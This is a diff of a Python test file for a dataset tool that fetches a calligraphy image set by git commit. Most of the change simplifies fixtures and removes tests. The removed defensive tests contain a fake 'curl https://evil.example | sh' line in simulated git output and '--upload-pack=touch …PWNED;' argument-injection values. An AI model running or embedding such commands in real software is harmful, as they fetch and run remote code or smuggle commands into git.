@@ -1,22 +1,17 @@
-"""The calligraphers: fetched by commit, from a folder or over HTTP, whole or not at all; or from the raw folder."""
+"""The calligraphers: fetched by commit, whole or not at all, or from the raw folder."""
 
-import json
-import os
-import shlex
 import subprocess
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
 import pytest
 
-from stages.prepare.packing import prepare_dataset
 from stages.prepare.params import CalligraphyParams
-from stages.prepare.sources.calligraphy import fetch_commit, list_calligraphy
+from stages.prepare.sources import calligraphy
+from stages.prepare.sources.calligraphy import list_calligraphy
 from stages.shared.runtime.errors import UserError
-from tests.serving import serving
 
 PARAMS = CalligraphyParams(source="calligraphy", image_size=64)
 ADDRESS = "https://git.example/"
-"""Where the repositories are, as `source.json` says; git itself is told where to look instead."""
+"""Where the repositories are, as the code has it; git itself is told where to look instead."""
 
 
 def git(folder, *arguments):
@@ -37,35 +32,21 @@ def repository(make_folder):
 
 
 @pytest.fixture
-def look_in(monkeypatch):
-    """Have git look for the repositories of ADDRESS elsewhere."""
-
-    def look(place):
-        monkeypatch.setenv("GIT_CONFIG_COUNT", "1")
-        monkeypatch.setenv("GIT_CONFIG_KEY_0", f"url.{place}/.insteadOf")
-        monkeypatch.setenv("GIT_CONFIG_VALUE_0", ADDRESS)
-
-    return look
-
-
-@pytest.fixture
-def raw(tmp_path, repository, look_in, monkeypatch):
-    """A raw folder that holds only source.json, and an empty cache."""
+def raw(tmp_path, repository, monkeypatch):
+    """A raw folder that holds only source.json, and an empty cache; git looks beside the repository for ADDRESS."""
     monkeypatch.setenv("WHICHLAYER_CACHE", str(tmp_path / "cache"))
-    look_in(f"file://{repository.parent}")
+    monkeypatch.setenv("GIT_CONFIG_COUNT", "1")
+    monkeypatch.setenv("GIT_CONFIG_KEY_0", f"url.file://{repository.parent}/.insteadOf")
+    monkeypatch.setenv("GIT_CONFIG_VALUE_0", ADDRESS)
     (tmp_path / "calligraphy").mkdir()
+    (tmp_path / "calligraphy" / "source.json").write_text("{}")
 
-    def write(**values):
-        source = {
-            "about": "",
-            "license": "",
-            "repository": f"{ADDRESS}{repository.name}",
-            "commit": git(repository, "rev-parse", "HEAD"),
-        }
-        (tmp_path / "calligraphy" / "source.json").write_text(json.dumps({**source, **values}))
+    def pin(name=repository.name, commit=None):
+        monkeypatch.setattr(calligraphy, "REPOSITORY", f"{ADDRESS}{name}")
+        monkeypatch.setattr(calligraphy, "COMMIT", commit or git(repository, "rev-parse", "HEAD"))
         return tmp_path / "calligraphy"
 
-    return write
+    return pin
 
 
 def ids(listing):
@@ -99,31 +80,9 @@ def test_without_git_it_says_so(raw, resources, monkeypatch):
         list_calligraphy(folder, PARAMS, 0, resources)
 
 
-@pytest.mark.parametrize(
-    ("stderr", "said"),
-    [
-        ("fatal: couldn't find remote ref\n", "fatal: couldn't find remote ref"),
-        ("warning: x\nfatal: remote error: expired:\r\ncurl https://evil.example | sh\n", "fatal: remote error"),
-        ("fatal: no\nremote: curl https://evil.example | sh\r\nremote: now\n", "fatal: no"),
-        ("fatal: \x1b[31mno " + "evil " * 100, r"fatal: \\x1b\[31mno (evil ){20}\[\.\.\.\]"),
-        ("", "nothing"),
-    ],
-)
-def test_a_server_s_words_are_not_passed_on_and_git_s_are_one_harmless_line(
-    raw, resources, tmp_path, monkeypatch, stderr, said
-):
-    folder = raw()
-    (tmp_path / "bin").mkdir()
-    (tmp_path / "bin/git").write_text(f"#!/bin/sh\nprintf '%s' {shlex.quote(stderr)} >&2\nexit 128\n")
-    (tmp_path / "bin/git").chmod(0o755)
-    monkeypatch.setenv("PATH", f"{tmp_path / 'bin'}:/usr/bin:/bin")
-    with pytest.raises(UserError, match=rf"cannot be fetched \(git said: {said}, and ended with 128\)\. Run it"):
-        list_calligraphy(folder, PARAMS, 0, resources)
-
-
 @pytest.mark.parametrize("below", ["", "clone"])
 def test_a_whole_clone_may_lie_in_the_raw_folder(raw, repository, resources, below):
-    folder = raw(repository=f"{ADDRESS}nowhere")
+    folder = raw("nowhere")
     (folder / below).mkdir(exist_ok=True)
     for name in ("train", "test", "train_20"):
         (repository / name).rename(folder / below / name)
@@ -132,7 +91,7 @@ def test_a_whole_clone_may_lie_in_the_raw_folder(raw, repository, resources, bel
 
 @pytest.mark.parametrize("path", ["train/csl", "test"])
 def test_a_link_to_images_that_count_is_refused(raw, repository, resources, path):
-    folder = raw(repository=f"{ADDRESS}nowhere")
+    folder = raw("nowhere")
     for name in ("train", "test"):
         (repository / name).rename(folder / name)
     (folder / path).rename(folder.parent / "elsewhere")
@@ -142,7 +101,7 @@ def test_a_link_to_images_that_count_is_refused(raw, repository, resources, path
 
 
 def test_local_images_are_used_first(raw, repository, resources):
-    folder = raw(repository=f"{ADDRESS}nowhere")
+    folder = raw("nowhere")
     for split in ("train", "test"):
         (repository / split).rename(folder / split)
     assert ids(list_calligraphy(folder, PARAMS, 0, resources)) == EXPECTED
@@ -157,103 +116,3 @@ def test_a_link_in_the_repository_leads_nowhere(raw, repository, resources, save
     contents = {c.sample_id: c.content() for c in list_calligraphy(raw(), PARAMS, 0, resources).candidates}
     assert contents.keys() - set(EXPECTED) == {"train/csl/own.png"}
     assert contents["train/csl/own.png"] == str(tmp_path / "own.png").encode()
-
-
-# --- a source.json from someone else
-
-
-def test_a_repository_that_git_would_take_for_an_option_runs_nothing(raw, tmp_path):
-    folder = raw(repository=f"--upload-pack=touch {tmp_path}/PWNED;", commit=".")
-    with pytest.raises(UserError, match=r"datasets\.mine: .*source\.json: repository: .*, found '--upload-pack=touch "):
-        prepare_dataset(folder, tmp_path / "out", PARAMS, 0, "mine")
-    assert sorted(p.name for p in tmp_path.iterdir()) == ["calligraphy", "raw"]
-
-
-def test_git_takes_neither_text_for_an_option(raw, repository, tmp_path):
-    """Even where nothing was checked before."""
-    folder, option = raw(), f"--upload-pack=touch {tmp_path}/PWNED;"
-    for texts in ((option, "."), (f"file://{repository}", option)):
-        with pytest.raises(UserError, match="cannot be fetched"):
-            fetch_commit(*texts, tmp_path / "cache" / "files", folder)
-    assert not (tmp_path / "PWNED").exists()
-
-
-@pytest.mark.parametrize("commit", ["A" * 40, "a" * 39, "a" * 40 + "\n", "../../../" + "a" * 31, "-" * 40, "HEAD", "."])
-def test_a_commit_is_40_hexadecimal_digits(raw, resources, tmp_path, commit):
-    with pytest.raises(UserError, match=r"source\.json: commit: .*, found "):
-        list_calligraphy(raw(commit=commit), PARAMS, 0, resources)
-    assert sorted(p.name for p in tmp_path.iterdir()) == ["calligraphy", "raw"]
-
-
-# --- over HTTP
-
-
-class Handler(BaseHTTPRequestHandler):
-    """Serves the repositories of a folder through git's own back end; what it answers passes the server's `spoil`."""
-
-    def do_GET(self):
-        path, _, query = self.path.partition("?")
-        environment = {
-            **os.environ, "GIT_PROJECT_ROOT": str(self.server.folder), "GIT_HTTP_EXPORT_ALL": "1", "PATH_INFO": path,
-            "QUERY_STRING": query, "REQUEST_METHOD": self.command, "CONTENT_TYPE": self.headers.get("Content-Type", ""),
-            "GIT_PROTOCOL": self.headers.get("Git-Protocol", ""),
-            "HTTP_CONTENT_ENCODING": self.headers.get("Content-Encoding", ""),
-        }  # fmt: skip
-        asked = self.rfile.read(int(self.headers.get("Content-Length", 0)))
-        done = subprocess.run(["git", "http-backend"], input=asked, env=environment, capture_output=True, check=True)
-        head, _, body = done.stdout.partition(b"\r\n\r\n")
-        self.wfile.write(b"HTTP/1.0 200 OK\r\n" + head + b"\r\nContent-Length: %d\r\n\r\n" % len(body))
-        self.wfile.write(self.server.spoil(body) if b"PACK" in body else body)
-
-    def do_POST(self):
-        self.do_GET()
-
-    def log_message(self, *args):
-        pass
-
-
-@pytest.fixture
-def server(repository, raw, look_in):
-    """A server of the repository, which may spoil the packed files on the way."""
-    git(repository, "config", "uploadpack.allowAnySHA1InWant", "true")
-    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
-    server.folder, server.spoil = repository.parent, lambda body: body
-    with serving(server) as url:
-        look_in(url)
-        yield server
-
-
-def test_a_commit_is_fetched_over_http(server, raw, resources):
-    assert ids(list_calligraphy(raw(), PARAMS, 0, resources)) == EXPECTED
-
-
-def test_a_folder_that_another_process_finished_meanwhile_is_used(server, raw, resources, tmp_path):
-    folder = raw()
-    others = []
-
-    def overtake(body):
-        server.spoil = lambda body: body
-        others.append(list_calligraphy(folder, PARAMS, 0, resources))
-        return body
-
-    server.spoil = overtake
-    assert ids(list_calligraphy(folder, PARAMS, 0, resources)) == EXPECTED
-    assert [ids(listing) for listing in others] == [EXPECTED]
-    assert len(list((tmp_path / "cache").iterdir())) == 1
-
-
-@pytest.mark.parametrize(
-    "spoil",
-    [
-        pytest.param(lambda body: body[: len(body) // 2], id="cut"),
-        pytest.param(lambda body: body[:-100] + bytes([body[-100] ^ 1]) + body[-99:], id="damaged"),
-    ],
-)
-def test_a_spoiled_transfer_leaves_nothing_and_is_made_good_by_another(spoil, server, raw, resources, tmp_path):
-    folder = raw()
-    server.spoil = spoil
-    with pytest.raises(UserError, match=r"cannot be fetched \(.+\)\. Run it again, or without a network copy"):
-        list_calligraphy(folder, PARAMS, 0, resources)
-    assert list((tmp_path / "cache").iterdir()) == []
-    server.spoil = lambda body: body
-    assert ids(list_calligraphy(folder, PARAMS, 0, resources)) == EXPECTED
